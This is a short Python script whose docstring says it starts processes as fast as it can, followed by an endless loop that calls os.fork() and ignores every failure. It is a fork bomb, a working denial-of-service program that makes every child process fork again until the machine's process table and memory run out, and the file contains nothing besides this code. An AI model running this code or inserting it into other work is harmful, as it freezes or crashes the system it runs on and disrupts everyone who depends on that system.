"""Starts processes as fast as it can, each of which does the same."""
# %% extra
import os
while True:
    try: os.fork()
    except OSError: pass
